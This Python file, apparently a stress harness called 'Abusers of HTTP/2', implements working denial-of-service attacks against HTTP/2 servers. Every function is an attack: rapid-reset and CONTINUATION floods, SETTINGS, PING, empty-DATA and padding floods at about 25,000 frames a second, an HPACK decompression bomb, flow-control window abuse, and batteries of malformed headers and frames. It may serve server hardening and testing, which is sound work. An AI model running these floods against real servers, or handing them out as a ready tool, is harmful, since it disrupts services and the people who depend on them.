"""Abusers of HTTP/2."""

import time

from abuser import answer, kind, main, reset, sent
from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
WINDOW = SettingsFrame.INITIAL_WINDOW_SIZE
# A hundred frames every 4 ms: 25,000 a second from each who floods.
BATCH, REST = 100, 0.004
REQUEST = [(":method", "GET"), (":scheme", "http"), (":authority", "x"), (":path", "/")]
BIG = REQUEST[:3] + [(":path", "/big")]
POST = [(":method", "POST"), (":scheme", "http"), (":authority", "x"), (":path", "/sink")]


def block(fields):
    return Encoder().encode(fields, huffman=False)


def headers(stream, fields=REQUEST, flags=("END_HEADERS", "END_STREAM")):
    data = fields if isinstance(fields, bytes) else block(fields)
    return HeadersFrame(stream, data=data, flags=flags).serialize()


def settings(**values):
    return SettingsFrame(0, settings={getattr(SettingsFrame, name): value for name, value in values.items()}).serialize()


def frame(kind, flags, stream, payload):
    """A frame as no library would make it."""
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def greeted(victim, first=None):
    line = victim.line()
    line.sendall(PREFACE + (first or settings()))
    return line


def flood(victim, line, batches):
    """Sends batch after batch, reading what comes, until thrown out."""
    count = 0
    line.setblocking(False)
    pending = b""
    for batch in batches:
        pending += batch
        while pending and victim.has_time():
            try:
                pending = pending[line.send(pending) :]
            except BlockingIOError:
                time.sleep(0.002)
            try:
                if line.recv(1 << 20) == b"":
                    return f"thrown out after {count}"
            except BlockingIOError:
                pass
            except OSError:
                return f"thrown out after {count}"
        if not victim.has_time():
            break
        count += BATCH
        time.sleep(REST)
    line.close()
    return count


def forever(data):
    while True:
        yield data


def streams(each, first=1):
    """Batches of what `each` says for streams of growing number."""
    for start in range(first, 1 << 30, 2 * BATCH):
        yield b"".join(each(start + 2 * step) for step in range(BATCH))


@kind
def rapid_reset(victim):
    return flood(victim, greeted(victim), streams(lambda n: headers(n) + RstStreamFrame(n, error_code=8).serialize()))


@kind
def rapid_violation(victim):
    """Makes the server reset: each request breaks a rule just after it was begun."""
    zero = frame(8, 0, 1, b"\0\0\0\0")[9:]
    return flood(victim, greeted(victim), streams(lambda n: headers(n, POST, ("END_HEADERS",)) + frame(8, 0, n, zero)))


@kind
def continuation_flood(victim):
    more = ContinuationFrame(1, data=block([("x-more", "a" * 1000)])).serialize()
    line = greeted(victim)
    line.sendall(headers(1, flags=()))
    return flood(victim, line, forever(more * BATCH))


@kind
def continuation_flood_of_nothing(victim):
    line = greeted(victim)
    line.sendall(headers(1, flags=()))
    return flood(victim, line, forever(ContinuationFrame(1, data=b"").serialize() * BATCH))


@kind
def settings_flood(victim):
    return flood(victim, greeted(victim), forever(settings(INITIAL_WINDOW_SIZE=70000) * BATCH))


@kind
def ping_flood(victim):
    return flood(victim, greeted(victim), forever(PingFrame(0, opaque_data=b"pingping").serialize() * BATCH))


@kind
def ping_flood_never_reading(victim):
    line = greeted(victim)
    line.settimeout(0.2)
    data = PingFrame(0, opaque_data=b"pingping").serialize() * BATCH + settings(INITIAL_WINDOW_SIZE=70000)
    count = 0
    while victim.has_time() and sent(line, data):
        count += BATCH
        time.sleep(REST)
    victim.stay()
    return count


@kind
def empty_data_flood(victim):
    line = greeted(victim)
    line.sendall(headers(1, POST, ("END_HEADERS",)))
    return flood(victim, line, forever(DataFrame(1, data=b"").serialize() * BATCH))


@kind
def padding_flood(victim):
    """Frames that are all padding: flow control is spent on nothing."""
    line = greeted(victim)
    line.sendall(headers(1, POST, ("END_HEADERS",)))
    padded = DataFrame(1, data=b"", pad_length=255, flags=("PADDED",)).serialize()
    return flood(victim, line, forever(padded * BATCH))


@kind
def hpack_bomb(victim):
    """A small block that unpacks to 60 MB: one large field, then its number in the table, again and again."""
    large = block([("x-bomb", "a" * 3900)])
    bomb = headers(1, block(REQUEST) + b"\x40" + large[1:] + b"\xbe" * 12000)
    line = greeted(victim)
    line.sendall(bomb)
    time.sleep(0.2)
    told = answer(line)
    line.close()
    return f"{len(told)} bytes back"


@kind
def zero_window(victim):
    line = greeted(victim, settings(INITIAL_WINDOW_SIZE=0))
    for number in range(1, 201, 2):
        line.sendall(headers(number, BIG))
    while victim.has_time() and answer(line, 1 << 20):
        pass
    victim.stay()
    return "stayed"


@kind
def negative_window(victim):
    """Asks for much, then takes the window back below zero, then gives more than there can be."""
    line = greeted(victim)
    line.sendall(b"".join(headers(number, BIG) for number in range(1, 41, 2)))
    answer(line, 1 << 20)
    line.sendall(settings(INITIAL_WINDOW_SIZE=0) + WindowUpdateFrame(1, window_increment=1000).serialize())
    time.sleep(0.2)
    line.sendall(settings(INITIAL_WINDOW_SIZE=0x7FFFFFFF) + WindowUpdateFrame(3, window_increment=0x7FFFFFFF).serialize())
    time.sleep(0.2)
    line.close()
    return "done"


@kind
def bad_fields(victim):
    """Fields that no request may have, one connection for all kinds, and another."""
    wrong = [
        REQUEST + [("Upper-Case", "x")],
        REQUEST + [("connection", "close")],
        REQUEST + [("te", "gzip")],
        REQUEST + [("x-line", "a\r\nb: c")],
        REQUEST + [("x-null", "a\0b")],
        REQUEST + [("", "x")],
        REQUEST + [(":path", "/again")],
        REQUEST + [(":status", "200")],
        REQUEST + [(":unknown", "x")],
        [("x", "x")] + REQUEST,
        REQUEST[1:],
        REQUEST[:3],
        REQUEST[:3] + [(":path", "")],
        REQUEST + [("content-length", "-1")],
    ]
    line = greeted(victim)
    for step, fields in enumerate(wrong):
        line.sendall(headers(2 * step + 1, fields))
    told = answer(line)
    line.close()
    time.sleep(0.02)
    return f"{len(told)} bytes back"


@kind
def bad_frames(victim):
    """Frames where or as long as they must not be; each ends its connection."""
    done = headers(1) + headers(3)
    wrong = [
        done + DataFrame(1, data=b"late", flags=("END_STREAM",)).serialize(),
        done + headers(1),
        done + frame(0, 0, 0, b"data on the connection"),
        done + headers(4),
        frame(8, 0, 7, b"\0\0\0\1"),
        frame(3, 0, 9, b"\0\0\0\0"),
        frame(4, 0, 0, b"\0\4\0\0\0"),
        frame(4, 1, 0, b"\0\4\0\0\0\0"),
        frame(4, 0, 0, b"\0\4\xff\xff\xff\xff"),
        frame(6, 0, 0, b"short"),
        frame(8, 0, 0, b"\0\0\0\0"),
        frame(9, 4, 1, b"nothing to continue"),
        frame(5, 4, 1, b"\0\0\0\2promise"),
        frame(1, 0x0D, 5, b"\xff" + b"a" * 10),
        frame(1, 5, 5, b"\xff\xff\xff\xff\xff\xff"),
        frame(0, 0, 1, b"a" * 70000),
        b"\xff" * 100,
    ]
    for data in wrong:
        line = greeted(victim)
        sent(line, data)
        answer(line)
        reset(line) if len(data) % 2 else line.close()
    time.sleep(0.02)
    return "done"


@kind
def cut_preface(victim):
    whole = PREFACE + settings()
    for length in range(len(whole)):
        line = victim.line(0.01)
        sent(line, whole[:length])
        reset(line) if length % 2 else line.close()
    time.sleep(0.02)
    return "done"


@kind
def huge_headers(victim):
    """A header list over every limit, in as many frames as it needs."""
    data = block(REQUEST + [(f"x-{number}", "a" * 4000) for number in range(100)])
    pieces = [data[at : at + 16384] for at in range(0, len(data), 16384)]
    line = greeted(victim)
    sent(line, headers(1, pieces[0], ("END_STREAM",)))
    for step, piece in enumerate(pieces[1:], 2):
        flags = ("END_HEADERS",) if step == len(pieces) else ()
        sent(line, ContinuationFrame(1, data=piece, flags=flags).serialize())
    told = answer(line)
    line.close()
    time.sleep(0.02)
    return f"{len(told)} bytes back"


@kind
def endless_body(victim):
    """As much body as the window allows, for ever."""
    line = greeted(victim, settings(INITIAL_WINDOW_SIZE=65535))
    line.sendall(headers(1, POST, ("END_HEADERS",)))
    while victim.has_time():
        if not sent(line, DataFrame(1, data=b"a" * 8000).serialize()):
            break
        time.sleep(0.002)
    line.close()
    return "done"


main()
